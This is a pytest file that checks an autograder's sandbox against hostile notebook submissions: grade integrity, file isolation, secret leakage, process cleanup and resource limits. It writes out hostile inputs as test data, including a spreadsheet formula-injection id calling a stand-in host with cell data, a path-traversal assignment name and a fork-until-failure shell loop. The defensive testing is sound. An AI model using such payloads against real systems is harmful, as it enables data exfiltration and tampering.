"""Hostile submissions (tests/hostile/) graded as an instructor would: none of them gets more
than its honest work deserves, none changes a file outside its sandbox, grades.csv stays as the
grader wrote it, and no process or temporary folder of a sandbox survives.

Also: files that are not notebooks as the grader expects them (nested 100 000 deep, cells whose
source is numbers, metadata naming an assignment by a path), what a sandbox can see and do
(tools/sandbox.py), and that grading refuses to run unsandboxed unless told to. One folder of 20
files of the gradient-flow assignment, graded two at a time: about two minutes on a 2-core
machine.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import subprocess
import time
from pathlib import Path

import nbformat
import pytest
from grading_support import (
    ROOT,
    assignments,
    grade,
    grading,
    read_grades,
    run_python,
    sandbox,
    student_bundle,
)

HOSTILE = Path(__file__).resolve().parent / "hostile"
pytestmark = pytest.mark.not_numerics


ASSIGNMENT = "gradient-flow"
SECRET = "hostile-test-secret"
TIMEOUT = 30  # seconds of wall time a submission's sandbox may run (one sandbox per level)
#: What stopping a sandbox at its limit may add to it: killing its process group and removing its
#: staging folder (measured: well under a second a sandbox, on a machine under load).
TEARDOWN = 5.0


def hostile_cases() -> list[dict]:
    """Each file of tests/hostile/: its cells and what it should score (see the README there)."""
    cases = []
    for path in sorted(HOSTILE.glob("*.py")):
        text = path.read_text(encoding="utf-8")
        header = dict(re.findall(r"^(base|where|expect): (.+)$", text, re.M))
        cells = [c.strip() for c in text.split("# %%")[1:]]
        cases.append({"name": path.stem, **header, "cells": cells})
    return cases


def build(case: dict, bundle: Path, folder: Path, canary: Path) -> Path:
    source = (
        bundle / "autograder" / f"{ASSIGNMENT}.ipynb"
        if case["base"] == "solution"
        else bundle / f"{ASSIGNMENT}.ipynb"
    )
    nb = nbformat.read(source, as_version=4)
    cells = [
        nbformat.v4.new_code_cell(
            c.replace("{SUBMISSIONS}", str(folder)).replace("{CANARY}", str(canary))
        )
        for c in case["cells"]
    ]
    if case["where"] == "start":
        nb.cells[1:1] = cells
    else:
        nb.cells += cells
    nb.metadata.setdefault("course", {"assignment": ASSIGNMENT})
    path = folder / f"{case['name']}.ipynb"
    nbformat.write(nb, path)
    return path


FORMULA_ID = ' =HYPERLINK("http://example.com/?"&A1,"my grade")'  # a student id


def malformed(bundle: Path, folder: Path) -> None:
    """Files a grader must turn into one row each, never a stopped folder or a run elsewhere."""
    (folder / "nested_deep.ipynb").write_text(
        '{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}", encoding="utf-8"
    )
    data = json.loads((bundle / f"{ASSIGNMENT}.ipynb").read_text(encoding="utf-8"))
    data["metadata"]["course"] = {"assignment": ASSIGNMENT, "student": FORMULA_ID}
    (folder / "formula_id.ipynb").write_text(json.dumps(data), encoding="utf-8")
    data["metadata"]["course"] = {"assignment": ASSIGNMENT, "student": "odd-1"}
    data["cells"].append({"cell_type": "code", "source": [1, 2], "metadata": {}, "outputs": []})
    data["cells"].append({"cell_type": "markdown", "source": {"not": "text"}, "metadata": {}})
    (folder / "odd_sources.ipynb").write_text(json.dumps(data), encoding="utf-8")
    data = json.loads((bundle / f"{ASSIGNMENT}.ipynb").read_text(encoding="utf-8"))
    data["metadata"]["course"] = {"assignment": "../../../../tmp/submissions/grading"}
    (folder / "assignment_by_path.ipynb").write_text(json.dumps(data), encoding="utf-8")


def digest(path: Path) -> str | None:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else None


def sandbox_processes() -> list[int]:
    """Processes running as one of the uids our sandboxes ran as (only meaningful as root)."""
    import psutil

    assert sandbox.USED_UIDS, "the sandboxes ran as uids of their own"
    return [
        p.pid
        for p in psutil.process_iter(["uids"])
        if p.info["uids"] is not None and p.info["uids"].real in sandbox.USED_UIDS
    ]


def stage_folders() -> set[str]:
    """The staging folders left by this process's sandboxes (only used when we are root). Only
    ours: another grader may be running at the same time (the other test process of `make
    test-grading`, an instructor's), and its sandboxes hold folders of their own."""
    if not sandbox.LEASES.is_dir():
        return set()
    ours = {f"{uid}.stage" for uid in sandbox.USED_UIDS}
    return {p.name for p in sandbox.LEASES.glob("*.stage")} & ours


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    bundle = student_bundle(tmp_path_factory)
    folder = tmp_path_factory.mktemp("submissions")
    outside = tmp_path_factory.mktemp("outside")
    canary = outside / "canary.txt"
    canary.write_text("a file outside every sandbox\n", encoding="utf-8")
    cases = hostile_cases()
    for case in cases:
        build(case, bundle, folder, canary)
    nbformat.write(
        nbformat.read(bundle / "autograder" / f"{ASSIGNMENT}.ipynb", as_version=4),
        folder / "solution.ipynb",
    )
    malformed(bundle, folder)
    watched = [canary, ROOT / "README.md", ROOT / "book" / "assignments" / f"{ASSIGNMENT}.md"]
    watched += sorted(folder.glob("*.ipynb")) + sorted(bundle.rglob("*.*"))
    before = {path: digest(path) for path in watched}
    start = time.monotonic()
    settings = grading.Settings(timeout=TIMEOUT, cell_timeout=10, jobs=2, secret=SECRET)
    _, messages = grade(folder, settings)
    seconds = time.monotonic() - start
    written = digest(folder / "grades.csv")
    time.sleep(3)  # a detached process would have rewritten grades.csv by now
    return {
        "folder": folder,
        "canary": canary,
        "cases": cases,
        "before": before,
        "messages": messages,
        "written": written,
        "seconds": seconds,
        "points": assignments.grading.load(ASSIGNMENT).auto,
    }


def test_every_hostile_submission_scores_what_its_honest_work_deserves(graded):
    rows = read_grades(graded["folder"])
    points = graded["points"]
    possible = sum(points.values())
    assert float(rows["solution.ipynb"]["score"]) == possible
    for case in graded["cases"]:
        row = rows[f"{case['name']}.ipynb"]
        expect = case["expect"]
        if expect == "0":
            wanted = dict.fromkeys(points, 0.0)
        elif expect == "full":
            wanted = dict(points)
        else:
            lost = expect.split()[1]
            wanted = {**points, lost: 0.0}
        got = {q: float(row[q]) for q in points}
        assert got == wanted, (case["name"], got, row["status"])
        assert float(row["score"]) == sum(wanted.values()), case["name"]


def test_no_file_outside_a_sandbox_changes_and_grades_stay_as_written(graded):
    for path, before in graded["before"].items():
        assert digest(path) == before, f"{path} changed during grading"
    assert digest(graded["folder"] / "grades.csv") == graded["written"]
    assert not Path(str(graded["canary"]) + ".alive").exists()
    for path in ("/tmp/hostile-wrote-here", "/etc/hostile", graded["folder"] / "new.ipynb"):
        assert not Path(path).exists(), path
    assert "pwned" not in (graded["folder"] / "grades.csv").read_text(encoding="utf-8")


def test_nothing_survives_the_sandboxes(graded):
    if os.geteuid() == 0:  # sandboxes run as uids of their own only when we are root
        assert sandbox_processes() == []
    assert stage_folders() == set()


def test_the_terminal_sees_no_output_of_a_submission(graded):
    text = "\n".join(graded["messages"])
    assert "\x1b" not in text and "\r" not in text
    assert re.search(r"\] 0 / \d+ \(graded, \d+ s\): 'fake_score\.ipynb'", text)
    assert text.isascii()
    log = (graded["folder"] / "grading-logs" / "fake_score.txt").read_text(encoding="utf-8")
    assert "\x1b" not in log and "10 / 10 (graded, 1 s)" in log  # kept for the instructor, inert


def test_feedback_and_logs_never_show_the_hidden_tests(graded):
    secret_parts = ("# GRADING", "def symmetric_invertible", "FLOW_ENGINES", "@hidden")
    for folder in ("feedback", "grading-logs"):
        for path in (graded["folder"] / folder).glob("*.txt"):
            text = path.read_text(encoding="utf-8")
            for part in secret_parts:
                assert part not in text, (path.name, part)
    feedback = (graded["folder"] / "feedback" / "read_hidden_tests.txt").read_text(encoding="utf-8")
    assert "hidden test full_indefinite_matrices: passed" in feedback
    assert "the notebook's own output" not in feedback  # only the instructor's log has it


def test_the_course_secret_never_reaches_a_sandbox(graded):
    for folder in ("feedback", "grading-logs"):
        for path in (graded["folder"] / folder).glob("*.txt"):
            assert SECRET not in path.read_text(encoding="utf-8"), path.name
    feedback = (graded["folder"] / "feedback" / "steal_secret.txt").read_text(encoding="utf-8")
    assert "RuntimeError: secret: []" in feedback  # it looked everywhere and found nothing


def test_forged_result_records_neither_stop_nor_fool_the_grader(graded):
    row = read_grades(graded["folder"])["forged_results.ipynb"]
    assert (row["score"], row["status"]) == ("0", "graded")
    for name in ("feedback", "grading-logs"):
        text = (graded["folder"] / name / "forged_results.txt").read_text(encoding="utf-8")
        assert not re.search(r"^q1: 3 / 3", text, re.M)  # the fake score stays inside its line
        assert "raised: boom q1: 3 / 3 hidden test" in text


def test_a_sandbox_can_fill_only_its_own_capped_folders(graded):
    log = (graded["folder"] / "grading-logs" / "fill_tmpfs.txt").read_text(encoding="utf-8")
    written = int(re.search(r"fill_tmpfs wrote (\d+) MB", log).group(1))
    limits = sandbox.Limits()
    assert 0 < written <= (limits.tmp_bytes + limits.shm_bytes) // 2**20


def test_malformed_files_are_one_row_each(graded):
    rows = read_grades(graded["folder"])
    assert rows["nested_deep.ipynb"]["status"].startswith("not a notebook")
    assert rows["assignment_by_path.ipynb"]["status"].startswith("a notebook of another")
    odd = rows["odd_sources.ipynb"]
    assert (odd["score"], odd["status"]) == ("0", "graded")
    formula = rows["formula_id.ipynb"]  # a formula is no student id: refused, and shown quoted
    assert formula["score"] == "0" and "student id is not an id" in formula["status"]
    assert formula["student"] == "'" + FORMULA_ID  # a formula, even after spaces, is quoted


def test_forbidden_functions_are_absent_under_any_alias(graded):
    log = (graded["folder"] / "grading-logs" / "forbidden_alias.txt").read_text(encoding="utf-8")
    assert (
        "lib.engine.flow.gradient_descent is absent while this question's hidden tests run"
        in log
    )
    feedback = (graded["folder"] / "feedback" / "forbidden_alias.txt").read_text(encoding="utf-8")
    assert "public test diagonal: passed" in feedback  # the same answer, where it is allowed


def test_memory_and_time_limits_hold(graded):
    feedback = graded["folder"] / "feedback"
    memory = (feedback / "memory_8gb.txt").read_text(encoding="utf-8")
    assert "MemoryError" in memory  # the 8 GB cell failed, the rest of the notebook ran
    endless = (feedback / "endless_loop.txt").read_text(encoding="utf-8")
    assert f"timeout after {TIMEOUT} s" in endless
    # Every notebook's sandboxes stop at their limit: one sandbox per level (set of absent
    # packages), each at most TIMEOUT s plus its teardown. A bound derived from the limits, not from
    # a measured total, so a slow or loaded machine cannot fail it, while a sandbox that outlives
    # its limit (the endless loop's, say) does.
    levels = grading.levels(grading._tests_for(grading.load(ASSIGNMENT), SECRET))
    bound = len(levels) * (TIMEOUT + TEARDOWN)
    spent = {}
    for log in sorted((graded["folder"] / "grading-logs").glob("*.txt")):
        found = re.search(r"^sandbox: ([0-9.]+) s", log.read_text(encoding="utf-8"), re.M)
        if found:
            spent[log.stem] = float(found.group(1))
    assert "endless_loop" in spent and spent["endless_loop"] >= TIMEOUT, spent
    assert max(spent.values()) <= bound, (bound, spent)


def _probe_sandbox(code: str, limits=None) -> str:
    return run_python(code, limits or sandbox.Limits(wall_seconds=60)).stdout.decode()


def test_a_sandbox_has_no_network_no_repository_and_its_own_limits():
    if reason := sandbox.missing():  # no bubblewrap, and not root to install it
        pytest.skip(reason)
    code = (
        "import os, socket, resource\n"
        "try:\n"
        "    socket.create_connection(('1.1.1.1', 53), timeout=2); print('network')\n"
        "except OSError:\n"
        "    print('no network')\n"
        f"print('repository' if os.path.exists({str(ROOT / 'book')!r}) else 'no repository')\n"
        "print('uid', os.getuid())\n"
        "print('memory', resource.getrlimit(resource.RLIMIT_AS)[0])\n"
        "print('pids', sorted(int(p) for p in os.listdir('/proc') if p.isdigit()))\n"
    )
    stale = sandbox.LEASES / f"{sandbox.UID_BASE - 1}.stage"  # left by a grader that was killed
    if os.geteuid() == 0:
        (stale / "m0").mkdir(parents=True, exist_ok=True)
    out = _probe_sandbox(code, sandbox.Limits(wall_seconds=60, memory_bytes=3 * 2**30))
    assert not stale.exists()
    assert "no network" in out and "no repository" in out
    assert f"memory {3 * 2**30}" in out
    assert re.search(r"pids \[1, 2(, \d+)?\]", out)  # only the sandbox's own processes
    if os.geteuid() == 0:
        uid = int(re.search(r"uid (\d+)", out).group(1))
        assert sandbox.UID_BASE <= uid < sandbox.UID_BASE + sandbox.UID_RANGE


def test_a_sandbox_without_a_uid_of_its_own_still_limits_its_processes():
    """As a non-root instructor grades (no uid per sandbox): a shell starts sleeps until a fork
    fails, printing a count after each; the count stays below the sandbox's process limit."""
    if reason := sandbox.missing():
        pytest.skip(reason)
    if not sandbox.nproc_per_namespace():
        pytest.skip("Linux before 5.14 counts processes per uid, not per namespace")
    limits = sandbox.Limits(wall_seconds=30)
    script = "for i in $(seq 300); do sleep 5 & echo $i; done"
    line, _ = sandbox.command(["/bin/sh", "-c", script], [], limits, uid=None)
    if os.geteuid() == 0:  # root's own processes are exempt from the limit: act as another uid
        uid = sandbox.UID_BASE - 2
        line = ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", *line]
    result = subprocess.run(
        line, capture_output=True, text=True, timeout=60, cwd="/", env=sandbox.host_environment()
    )
    started = [int(n) for n in result.stdout.split()]
    assert started and max(started) < limits.processes, result.stderr[-500:]


def test_grader_refuses_symlinked_outputs_and_assignments_named_by_path(tmp_path):
    (tmp_path / "a.ipynb").write_text("{}", encoding="utf-8")
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "feedback").symlink_to(tmp_path / "elsewhere")
    with pytest.raises(ValueError, match="symbolic link"):
        grading.grade_folder(tmp_path, assignment=ASSIGNMENT, echo=lambda *_: None)
    with pytest.raises(ValueError, match="no assignment"):
        grading.load(f"../assignments/{ASSIGNMENT}")
    named = grading.Submission(tmp_path / "b.ipynb", {"cells": [], "metadata": {}})
    named.notebook["metadata"]["course"] = {"assignment": "../../tests/hostile/x"}
    with pytest.raises(ValueError, match="cannot tell"):
        grading._which_assignment([named], None)
    for formula in ("=1+1", " =1+1", "\t@SUM(A1)", "\uff1d1+1", "-2+3"):
        assert grading._safe_name(formula).startswith("'")


def test_grading_refuses_to_run_unsandboxed_unless_told(tmp_path, monkeypatch):
    def unavailable(install=True):
        raise sandbox.SandboxUnavailable("no user namespaces here")

    monkeypatch.setattr(sandbox, "check", unavailable)
    (tmp_path / "a.ipynb").write_text("{}", encoding="utf-8")
    with pytest.raises(sandbox.SandboxUnavailable):
        grading.grade_folder(
            tmp_path,
            assignment=ASSIGNMENT,
            settings=grading.Settings(secret=SECRET),
            echo=lambda *_: None,
        )
